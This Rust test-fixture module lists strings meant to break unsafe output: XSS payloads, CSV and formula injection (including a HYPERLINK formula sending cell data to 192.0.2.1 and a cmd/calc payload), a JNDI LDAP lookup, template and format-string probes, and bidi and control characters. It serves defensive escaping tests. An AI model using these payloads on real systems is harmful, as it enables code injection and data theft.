//! Texts that hurt where they are printed without care.

/// One such text: as a name (which cannot hold a slash) and as a value.
pub(super) struct Harmful {
    pub(super) name: &'static str,
    pub(super) value: &'static str,
}

/// Part of every title.
pub(super) const TITLE: &str = "edge </title><script>alert('title')</script> | \"quoted\"";

/// An even number of texts: markup, table syntax, quotes, line ends, control and direction marks, formulas.
pub(super) const HARMFUL: [Harmful; 22] = [
    Harmful {
        name: "<script>alert(1)",
        value: "<script>alert('value')</script>",
    },
    Harmful {
        name: "<img src=x onerror=alert(2)>",
        value: "</td></tr></table><script>alert(2)</script>",
    },
    Harmful {
        name: "'\"><svg onload=alert(3)>",
        value: "javascript:alert(3)",
    },
    Harmful {
        name: "]]><!--",
        value: "--><![CDATA[ ]]>",
    },
    Harmful {
        name: "&amp;&lt;b&gt;",
        value: "&#60;script&#62;",
    },
    Harmful {
        name: "pipe|in|name",
        value: "a | b \\| c",
    },
    Harmful {
        name: "back\\slash",
        value: "C:\\temp\\",
    },
    Harmful {
        name: "`tick` **bold** _under_",
        value: "[link](javascript:alert(1)) ![](http://192.0.2.1/x.png)",
    },
    Harmful {
        name: "\"double\" 'single'",
        value: "she said \"no\", he said 'yes'",
    },
    Harmful {
        name: "comma, semicolon; tab\there",
        value: "a,b;c\td",
    },
    Harmful {
        name: "two\nlines",
        value: "first\r\nsecond\nthird",
    },
    Harmful {
        name: "carriage\rreturn",
        value: "over\rwritten",
    },
    Harmful {
        name: "\u{202e}gnp.exe",
        value: "\u{202e}desrever\u{202c}\u{2066}isolated\u{2069}\u{200f}",
    },
    Harmful {
        name: "zero\u{200b}width\u{feff}",
        value: "a\u{200d}b\u{2028}c\u{2029}d",
    },
    Harmful {
        name: "\u{1b}[31mred\u{1b}[0m",
        value: "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
    },
    Harmful {
        name: "nul\u{0}bell\u{7}",
        value: "\u{0}\u{1}\u{8}\u{7f}",
    },
    Harmful {
        name: "=1+cmd|' calc'!A0",
        value: "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")",
    },
    Harmful {
        name: "+1+1",
        value: "+SUM(A1:A9)",
    },
    Harmful {
        name: "-2-2",
        value: "-2+3+cmd|' /C calc'!A0",
    },
    Harmful {
        name: "@SUM(1+1)",
        value: "\t=1+1",
    },
    Harmful {
        name: "ünïcödé-名前-🦀",
        value: "e\u{301} is not é; 名前 🦀",
    },
    Harmful {
        name: "{{braces}} ${dollar} %25 %s",
        value: "${jndi:ldap://192.0.2.1/a} {{7*7}} %n%n",
    },
];
